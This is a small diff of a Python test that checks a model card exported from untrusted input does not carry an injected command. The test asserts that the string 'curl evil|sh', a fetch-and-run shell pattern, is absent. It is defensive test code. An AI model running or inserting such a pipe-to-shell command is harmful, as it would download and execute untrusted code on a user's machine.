@@ -127,7 +127,7 @@ def test_a_model_card_has_no_other_command(rlher, untrusted: Path, recorded: str
     assert rlher("export", str(untrusted), "--output", "export").code == 0
     training = Path("export/README.md").read_text().split("## Training\n")[1]
     assert "curl evil|sh" not in training
-    assert training.startswith(f"\n```sh\n{shown}\n\nwith Python" if shown else "\nTrained with Python")
+    assert training.startswith(f"\n```sh\n{shown}\n\nTrained with Python" if shown else "\nTrained with Python")
 
 
 @pytest.mark.parametrize(
